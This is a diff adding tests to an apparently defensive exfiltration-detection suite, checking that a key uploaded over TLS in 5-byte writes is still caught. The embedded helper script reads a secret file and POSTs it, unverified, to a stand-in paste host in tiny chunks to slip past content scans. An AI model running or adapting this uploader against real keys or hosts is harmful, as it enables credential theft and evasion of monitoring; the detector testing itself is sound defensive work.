@@ -1322,6 +1322,53 @@ def test_unconnected_datagrams_from_a_key_reader_to_another_receiver_are_silent(
     assert_silent([r for r in monitor.records() if get(r, "destination.port") == HTTPS_PORT])
 
 
+# --- Class: a secret cut across TLS writes -------------------------------------------------------
+# No token is whole in any one SSL_write: the body goes in 5-byte writes. The scan joins each write
+# to the connection's previous one (the tail it keeps), so the key's lines are still matched.
+
+CHUNKED_POST = """
+import socket, ssl, sys
+
+data = open(sys.argv[1], "rb").read()
+c = ssl._create_unverified_context()
+s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+request = b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data
+for at in range(0, len(request), 5):
+    s.write(request[at:at + 5])
+s.recv(100)
+"""
+
+
+def chunked_post(tmp_path, path):
+    tool = tmp_path / "chunked_post.py"
+    tool.write_text(CHUNKED_POST.format(port=HTTPS_PORT, paste=PASTE))
+    return f"{paths.PYTHON} {tool} {path}"
+
+
+def chunked_scans(monitor, tmp_path):
+    """The content scans of this test's chunked writer (its command line names its directory)."""
+    return [r for r in monitor.records() if get(r, "event.action") == "content-scan" and str(tmp_path) in json.dumps(r)]
+
+
+def test_key_cut_across_5_byte_tls_writes_is_a_content_match(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    found = run_attack(upload_scenario("chunked-tls", chunked_post(tmp_path, key)), monitor, standin, fake_home,
+                       tmp_path)
+    evidence = [s.get("evidence", "") for a in found for s in as_list(get(a, "exfilwatch.signals", []))
+                if s.get("name") == "content-match"]
+    assert any("in the body" in e for e in evidence), evidence
+    scans = chunked_scans(monitor, tmp_path)
+    assert len(scans) > 20 and max(get(r, "exfilwatch.content.scanned", 0) for r in scans) <= 5, \
+        "the writes were not cut small"
+    assert_no_secret(monitor, key)
+
+
+def test_harmless_file_cut_across_5_byte_tls_writes_is_silent(monitor, standin, fake_home, tmp_path):
+    silent_run(monitor, standin, fake_home, tmp_path, "chunked-tls-twin", chunked_post(tmp_path, HARMLESS))
+    scans = chunked_scans(monitor, tmp_path)
+    assert len(scans) > 20 and not any(get(r, "exfilwatch.content.matches") for r in scans)
+
+
 # --- Class: a descriptor passed by SCM_RIGHTS ---------------------------------------------------
 # The opener never reads; the receiver, in another session, reads the key through the fd it was
 # given (a read of a file it was not seen opening) and uploads it.
